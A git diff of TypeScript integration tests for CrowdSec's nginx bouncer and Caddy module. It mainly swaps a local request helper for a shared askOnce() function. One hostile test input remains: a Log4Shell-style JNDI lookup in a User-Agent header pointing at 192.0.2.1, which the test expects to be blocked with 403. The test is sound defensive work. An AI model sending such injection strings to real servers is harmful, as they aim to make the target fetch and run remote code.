@@ -9,8 +9,7 @@ import { join } from 'node:path'
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
 import { EdgeFolder, EdgeProcess, edgeMain } from './support/edge-process.ts'
 import { freePort } from './support/free-port.ts'
-import { RawClient } from './support/raw-client.ts'
-import type { WireAnswer } from './support/raw-client.ts'
+import { askOnce, getRequest } from './support/raw-client.ts'
 import { RealServer, exampleText, isInstalled, nginxConf } from './support/real-server.ts'
 import { compiledEdge } from './support/steps-edge.ts'
 
@@ -146,18 +145,7 @@ server {
   return own
 }
 
-async function send(port: number, request: string): Promise<WireAnswer> {
-  const client = await RawClient.connect(port)
-  try {
-    client.send(request)
-    return await client.answer()
-  } finally {
-    client.close()
-  }
-}
-
-const get = (target: string, more = ''): string =>
-  `GET ${target} HTTP/1.1\r\nHost: shop.test\r\n${more}Connection: close\r\n\r\n`
+const get = (target: string, more = ''): string => getRequest(target, `${more}Connection: close\r\n`)
 const post = (body: string, more = '', method = 'POST'): string =>
   `${method} /p HTTP/1.1\r\nHost: shop.test\r\nContent-Type: application/x-www-form-urlencoded\r\n${more}Content-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`
 const chunked = (body: string): string =>
@@ -181,7 +169,7 @@ describe("CrowdSec's bouncer for nginx", () => {
         'GET /old HTTP/1.0\r\n\r\n',
       ]
       for (const request of innocent) {
-        expect((await send(port, request)).body, request).toBe('app')
+        expect((await askOnce(port, request)).body, request).toBe('app')
       }
       expect(seen).toEqual([
         'GET /a?b=1 ',
@@ -206,7 +194,7 @@ describe("CrowdSec's bouncer for nginx", () => {
         post(`a=${'b'.repeat(65_536)}`),
       ]
       for (const request of hostile) {
-        expect((await send(port, request)).status, request.slice(0, 200)).toBe(403)
+        expect((await askOnce(port, request)).status, request.slice(0, 200)).toBe(403)
       }
       expect(seen).toHaveLength(6)
       await edge?.stop()
@@ -223,9 +211,9 @@ describe("CrowdSec's bouncer for nginx", () => {
       await startEdge(asked, 'challenge: { when: always }')
       const port = await startNginx(asked)
       const browser = 'User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0\r\nAccept: text/html\r\n'
-      const page = await send(port, get('/', browser))
+      const page = await askOnce(port, get('/', browser))
       expect(page.body).toContain('turnstile')
-      expect((await send(port, get('/api', 'Accept: application/json\r\n'))).body).toBe('app')
+      expect((await askOnce(port, get('/api', 'Accept: application/json\r\n'))).body).toBe('app')
       expect(seen).toEqual(['GET /api '])
     },
   )
@@ -236,19 +224,19 @@ describe("CrowdSec's bouncer for nginx", () => {
       const asked = await freePort()
       const closed = await startNginx(asked)
       for (const request of [get('/'), post('a=1')]) {
-        expect((await send(closed, request)).body).not.toBe('app')
+        expect((await askOnce(closed, request)).body).not.toBe('app')
       }
       expect(seen).toEqual([])
       await proxy?.stop()
       const open = await startNginx(asked, {
         'APPSEC_FAILURE_ACTION=deny': 'APPSEC_FAILURE_ACTION=passthrough',
       })
-      expect((await send(open, get('/'))).body).toBe('app')
+      expect((await askOnce(open, get('/'))).body).toBe('app')
       await proxy?.stop()
       // A wrong key is a failure, too.
       await startEdge(asked)
       const stranger = await startNginx(asked, { [`API_KEY=${key}`]: 'API_KEY=another-key-of-a-bouncer' })
-      expect((await send(stranger, get('/'))).body).not.toBe('app')
+      expect((await askOnce(stranger, get('/'))).body).not.toBe('app')
     },
   )
 })
@@ -275,18 +263,18 @@ describe("CrowdSec's module for Caddy", () => {
       )
       proxy = await RealServer.start([caddy, 'run', '--config', file, '--adapter', 'caddyfile'], port)
       for (const request of [get('/a?b=1'), post('a=1'), post('')]) {
-        expect((await send(port, request)).body, request).toBe('app')
+        expect((await askOnce(port, request)).body, request).toBe('app')
       }
       const hostile = [
         get(`/?${attack}`),
         post(attack),
         get('/', 'User-Agent: ${jndi:ldap://192.0.2.1/a}\r\n'),
       ]
-      for (const request of hostile) expect((await send(port, request)).status, request).toBe(403)
-      expect((await send(port, chunked('a=1'))).status).toBe(411)
+      for (const request of hostile) expect((await askOnce(port, request)).status, request).toBe(403)
+      expect((await askOnce(port, chunked('a=1'))).status).toBe(411)
       expect(seen).toEqual(['GET /a?b=1 ', 'POST /p a=1', 'POST /p '])
       await edge?.stop()
-      expect((await send(port, get('/'))).status).toBe(500)
+      expect((await askOnce(port, get('/'))).status).toBe(500)
       expect(seen).toHaveLength(3)
       decisions.closeAllConnections()
       decisions.close()
